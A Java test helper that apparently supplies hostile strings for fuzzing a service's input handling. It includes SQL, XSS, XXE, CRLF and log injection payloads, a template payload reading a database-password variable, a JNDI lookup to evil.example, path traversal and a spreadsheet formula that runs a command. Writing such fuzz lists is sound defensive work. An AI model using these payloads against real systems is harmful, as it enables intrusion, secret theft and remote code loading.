package tollgate.testing;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.List;
import java.util.Random;

/** Draws texts that mean something to SQL, XML, HTTP, Camel, a terminal or a decoder. */
public final class HostileTexts {

  private static final List<String> TEXTS =
      List.of(
          "' or 1=1 --",
          "'; drop table cards; --",
          "\\'; select pg_sleep(9) --",
          "$$ || $1 :#x ${body}",
          "<x y=\"z\">&amp;<!--]]>",
          "<script>alert(1)</script>",
          "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
          "\r\nSet-Cookie: evil=1\r\n\r\n",
          "\u560d\u560aX-Evil: 1",
          "\u0000",
          "a\u0000b",
          "\u001b[2J\u001b]0;evil\u0007",
          "\n2026-01-01T00:00:00.000Z INFO  forged line",
          "${exception.stacktrace}",
          "${7*7}{{7*7}}#{7*7}{{env:TOLLGATE_DB_PASSWORD}}",
          "${jndi:ldap://evil.example/a}",
          "../../../etc/passwd",
          "buyer@example.com\r\nBcc: evil@evil.example",
          "buyer@example.com,evil@evil.example",
          "=cmd|' /C calc'!A0",
          "%00%0d%0a%c0%af",
          "\uFEFF\u202Ereversed",
          "\uD83D\uDE00",
          "9999999999999999999999",
          "-1",
          "1e9",
          "NaN",
          "١٢٣",
          " 6 ",
          "");
  private static final int MAX_LENGTH = 5_000;

  private HostileTexts() {}

  /** Returns one of the texts, or a random one; never with an unpaired surrogate. */
  public static String next(Random random) {
    int kind = random.nextInt(TEXTS.size() + 3);
    if (kind < TEXTS.size()) {
      return TEXTS.get(kind);
    }
    byte[] bytes = new byte[random.nextInt(kind == TEXTS.size() ? MAX_LENGTH : 30)];
    random.nextBytes(bytes);
    return kind == TEXTS.size() ? "x".repeat(bytes.length) : new String(bytes, ISO_8859_1);
  }

  /** Returns the text percent-encoded; sometimes raw, overlong or malformed. */
  public static String encoded(String text, Random random) {
    return switch (random.nextInt(24)) {
      case 0 -> text.replaceAll("[\\s\\x00-\\x1f\\x7f]", "");
      case 1 -> percent(text) + "%c0%af%e0%80%8a";
      case 2 -> percent(text) + "%f8%zz%";
      default -> percent(text);
    };
  }

  private static String percent(String text) {
    StringBuilder encoded = new StringBuilder();
    for (byte b : text.getBytes(UTF_8)) {
      boolean isPlain = b >= '0' && b <= '9' || b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z';
      encoded.append(isPlain ? "" + (char) b : "%%%02x".formatted(b & 0xff));
    }
    return encoded.toString();
  }
}
